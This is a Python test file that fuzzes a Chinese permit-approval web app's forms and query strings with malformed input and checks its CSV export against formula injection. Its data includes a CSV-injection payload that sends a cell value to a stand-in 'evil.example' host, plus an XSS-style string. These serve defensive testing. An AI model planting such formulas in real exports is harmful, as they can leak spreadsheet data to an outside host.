"""The pages against hostile or broken input: every page form posted with a valid CSRF
token and garbage (numbers in other scripts, files where text belongs, repeated fields,
huge text, broken multipart) and every page fetched with garbage in its query string is a
4xx page in Chinese, never a 500; private pages are never cached; the statistics CSV
cannot carry a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import re
import secrets
import uuid
from typing import Any

import httpx

from approvals.clock import SystemClock
from approvals.persistence.statements import fetch
from approvals.repository import accounts as account_repo
from approvals.repository import post_checks as check_repo
from approvals.repository import supervision as item_repo
from factories import (
    DEMO_PASSWORD,
    applicant_account,
    file_bundle,
    hygiene_application,
    login,
    staff_account,
)

PDF = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
# Names the page forms read, so that garbage reaches each handler's own parsing.
FIELDS = (
    "expected_version",
    "reasons",
    "reason",
    "note",
    "target",
    "to",
    "verdict",
    "opinion",
    "items",
    "scheduled_for",
    "place",
    "code",
    "result",
    "on_failure",
    "approve",
    "department",
    "finding",
    "correction_days",
    "outcome",
    "text",
    "active",
    "roles",
    "seen_roles",
    "seen_department",
    "password",
    "password_again",
    "username",
    "display_name",
    "name",
    "url",
    "event_types",
    "rate_limit_per_s",
    "overlap_hours",
    "issuer",
    "alg",
    "purpose",
    "holidays",
    "workdays",
    "commitment_signer",
    "commitment_accepted",
)
# "²" and "①" are digits to str.isdigit() but not to int().
GARBAGE = ("²", "①", "-1", "9" * 30, "2147483648", "x" * 3000, "javascript:alert(1)", "\u202e")


def _hidden(html: str, name: str) -> str:
    match = re.search(rf'name="{name}" value="([^"]*)"', html)
    assert match, f"no hidden {name} in the page"
    return match.group(1)


async def _logged_in(page_clients: Any, username: str) -> tuple[httpx.AsyncClient, str]:
    """A browser-like client logged in through /login, and its session's CSRF token."""
    http: httpx.AsyncClient = page_clients()
    page = await http.get("/login")
    response = await http.post(
        "/login",
        data={
            "csrf_token": _hidden(page.text, "csrf_token"),
            "username": username,
            "password": DEMO_PASSWORD,
        },
    )
    assert response.status_code == 303, response.text
    me = await http.get("/api/auth/me")
    return http, str(me.json()["csrf_token"])


def _bodies(csrf: str) -> list[tuple[str, dict[str, Any]]]:
    bodies: list[tuple[str, dict[str, Any]]] = [("nothing", {"data": {"csrf_token": csrf}})]
    for value in GARBAGE:
        bodies.append(
            (
                f"every field {value[:8]!r}",
                {"data": {"csrf_token": csrf} | dict.fromkeys(FIELDS, value)},
            )
        )
    bodies.append(("repeated", {"data": {"csrf_token": csrf} | {f: ["1", "2"] for f in FIELDS}}))
    files = [(f, ("a.pdf", PDF, "application/pdf")) for f in FIELDS]
    bodies.append(("files for text", {"data": {"csrf_token": csrf}, "files": files}))
    broken = (
        b'--zz\r\nContent-Disposition: form-data; name="csrf_token"\r\n\r\n'
        + csrf.encode()
        + b'\r\n--zz\r\nContent-Disposition: form-data; name="expected_version"\r\n\r\n1'
    )
    bodies.append(
        (
            "broken multipart",
            {"content": broken, "headers": {"Content-Type": "multipart/form-data; boundary=zz"}},
        )
    )
    return bodies


async def _records(client: Any) -> dict[str, str]:
    """Real records for every kind of path parameter, so handlers get past their 404s."""
    holder = await applicant_account()
    headers = await login(client, holder)
    case = await file_bundle(client, headers)
    issued = await client.post(
        "/api/applications", json=await hygiene_application(client), headers=headers
    )
    assert issued.status_code == 201, issued.text
    issued_id = uuid.UUID(issued.json()["application"]["id"])
    item = next(
        i for i in await item_repo.of_application(issued_id) if i.department == "health_inspection"
    )
    (check,) = await check_repo.of_application(issued_id)
    _, person = await staff_account("reviewer", "medical_administration")
    return {
        "holder": holder,
        "case_id": case["id"],
        "task_id": str(uuid.uuid4()),
        "item_id": str(item.id),
        "check_id": str(check.id),
        "account_id": person,
        "sub_id": str(uuid.uuid4()),
        "kid": "abcdefgh12",
        "year": "2031",
        "delivery_id": "1",
        "permit_code": "medical_institution_bundle",
        "code": "public_place_hygiene",
    }


def _who(path: str) -> str:
    """Whose session posts to a path: someone the page lets in, so the form is read."""
    if path.startswith(("/my", "/apply")):
        return "holder"
    if path.startswith("/supervise/items") and not path.endswith("/reassign"):
        return "supervisor"
    if path.startswith("/supervise/post-checks"):
        return "supervisor" if path.endswith("/result") else "decider"
    return "admin"


def _page_routes(app: Any, records: dict[str, str]) -> list[tuple[str, set[str]]]:
    from litestar.routes import HTTPRoute

    routes = []
    for route in app.routes:
        if not isinstance(route, HTTPRoute):
            continue
        if route.path.startswith(("/api", "/.well-known", "/schema", "/static", "/v/", "/V/")):
            continue
        if route.path in ("/health", "/login", "/logout"):
            continue
        path = re.sub(r"\{([a-z_]+):[a-z]+\}", lambda m: records[m.group(1)], route.path)
        routes.append((path, set(route.methods)))
    return routes


async def test_no_page_form_answers_garbage_with_a_500(
    app: Any, client: Any, page_clients: Any
) -> None:
    records = await _records(client)
    supervisor, _ = await staff_account("supervisor", "health_inspection")
    sessions = {
        "admin": await _logged_in(page_clients, "admin"),
        "decider": await _logged_in(page_clients, "decider"),
        "supervisor": await _logged_in(page_clients, supervisor),
        "holder": await _logged_in(page_clients, records["holder"]),
    }
    failures = []
    posted = 0
    for path, methods in _page_routes(app, records):
        if "POST" not in methods:
            continue
        http, csrf = sessions[_who(path)]
        for label, body in _bodies(csrf):
            response = await http.post(path, **body)
            posted += 1
            if response.status_code >= 500:
                failures.append(f"{path} ({label}): {response.status_code}")
            elif response.status_code >= 400:
                assert response.headers["content-type"].startswith("text/html"), path
                assert re.search("[\u4e00-\u9fff]", response.text), path
    assert posted > 300
    assert not failures, "\n".join(failures)


async def test_no_page_answers_a_garbage_query_with_a_500_and_none_is_cached(
    app: Any, client: Any, page_clients: Any
) -> None:
    records = await _records(client)
    supervisor, _ = await staff_account("supervisor", "health_inspection")
    sessions = {
        "admin": await _logged_in(page_clients, "admin"),
        "decider": await _logged_in(page_clients, "decider"),
        "supervisor": await _logged_in(page_clients, supervisor),
        "holder": await _logged_in(page_clients, records["holder"]),
    }
    names = ("cursor", "tcursor", "icursor", "state", "department", "year", "from", "to")
    names += ("q", "status", "permit", "permit_code", "table", "industry", "next", "overdue")
    queries: list[dict[str, Any]] = [
        {},
        dict.fromkeys(names, "x\x00"),
        {name: ["a", "b"] for name in names},
        dict.fromkeys(names, "²"),
        {"cursor": "MDAwMS0wMS0wMXx4", "tcursor": "OTk5OS0xMi0zMXxhYmM", "icursor": "!!"},
        {"from": "0001-01-01", "to": "9999-12-31", "year": "9" * 400},
        {"from": "2100-12-31", "to": "2100-12-31", "year": "2101"},
    ]
    failures = []
    for path, methods in _page_routes(app, records):
        if "GET" not in methods:
            continue
        http, _ = sessions[_who(path)]
        for query in queries:
            response = await http.get(path, params=query)
            if response.status_code >= 500:
                failures.append(f"{path} {sorted(query)[:2]}: {response.status_code}")
            elif response.status_code != 303:
                assert response.headers.get("cache-control") == "no-store", path
    assert not failures, "\n".join(failures)


async def test_a_version_written_in_other_digits_is_a_400_page_and_changes_nothing(
    client: Any, page_clients: Any
) -> None:
    """``"²".isdigit()`` is true but ``int("²")`` fails: the staff and supervision forms
    answered such a version with a 500."""
    records = await _records(client)
    clerk, _ = await staff_account("window_staff", "health_approval")
    http, csrf = await _logged_in(page_clients, clerk)
    case = f"/work/cases/{records['case_id']}"
    for digits in ("²", "①", "٣٣" * 10):
        accept = await http.post(
            f"{case}/accept", data={"csrf_token": csrf, "expected_version": digits}
        )
        assert accept.status_code == 400, (digits, accept.status_code)
        assert "页面版本信息有误" in accept.text
    api = await client.get(
        f"/api/applications/{records['case_id']}", headers=await login(client, "admin")
    )
    assert api.json()["status"] == "submitted"

    supervisor, _ = await staff_account("supervisor", "health_inspection")
    http, csrf = await _logged_in(page_clients, supervisor)
    result = await http.post(
        f"/supervise/post-checks/{records['check_id']}/result",
        data={"csrf_token": csrf, "expected_version": "²", "result": "fulfilled"},
    )
    assert result.status_code == 303  # a version no page made reads as a stale page
    shown = await http.get(result.headers["location"])
    assert "请查看后再操作" in shown.text
    check = await check_repo.get(uuid.UUID(records["check_id"]))
    assert check is not None and check.status == "open"


async def test_a_file_posted_where_text_belongs_is_a_400_page_that_does_not_show_it(
    client: Any, page_clients: Any
) -> None:
    """The page shown again with the error echoes what was typed; an upload in a text or
    checkbox field made the correction form a 500 (and would print the upload's repr)."""
    records = await _records(client)
    clerk, _ = await staff_account("window_staff", "health_approval")
    http, csrf = await _logged_in(page_clients, clerk)
    page = await http.get(f"/work/cases/{records['case_id']}")
    version = _hidden(page.text.split('id="corrections"', 1)[1], "expected_version")
    corrections = await http.post(
        f"/work/cases/{records['case_id']}/corrections",
        data={"csrf_token": csrf, "expected_version": version},
        files=[("target", ("x.pdf", PDF, "application/pdf"))],
    )
    assert corrections.status_code == 400
    assert "请至少勾选一项" in corrections.text and "UploadFile" not in corrections.text

    supervisor, _ = await staff_account("supervisor", "health_inspection")
    http, csrf = await _logged_in(page_clients, supervisor)
    give_back = await http.post(
        f"/supervise/items/{records['item_id']}/return",
        data={"csrf_token": csrf, "expected_version": "1"},
        files=[("reason", ("x.pdf", PDF, "application/pdf"))],
    )
    assert give_back.status_code == 400
    assert "退回理由只能填写一次" in give_back.text and "UploadFile" not in give_back.text
    item = await item_repo.get(uuid.UUID(records["item_id"]))
    assert item is not None and item.status == "pending"


async def test_the_statistics_csv_neutralises_cells_a_spreadsheet_would_run(
    page_clients: Any,
) -> None:
    """A department or permit name starting with = + - @ is exported as text (a leading
    apostrophe), not as a formula Excel would evaluate (CSV injection)."""
    code = f"csv_{secrets.token_hex(3)}"
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'
    await account_repo.upsert_department(code, evil, "review", SystemClock().now())
    try:
        http, _ = await _logged_in(page_clients, "admin")
        response = await http.get(
            "/stats.csv",
            params={"table": "supervision", "department": code, "from": "2026-01-01"},
        )
        assert response.status_code == 200, response.text
        assert response.headers["cache-control"] == "no-store"
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        (row,) = [r for r in rows[1:] if r[2] == code]
        assert row[3] == "'" + evil
        for cells in rows[1:]:
            assert not any(c.startswith(("=", "+", "@")) for c in cells), cells
    finally:
        await fetch("DELETE FROM department WHERE code = :code", code=code)


def test_only_text_cells_that_would_be_formulas_are_changed() -> None:
    from approvals.web.pages.stats_data import text_cell

    for risky in ("=1+1", "+86", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
        assert text_cell(risky) == "'" + risky
    for plain in ("公共场所卫生许可", "health_inspection", "a=b", ""):
        assert text_cell(plain) == plain
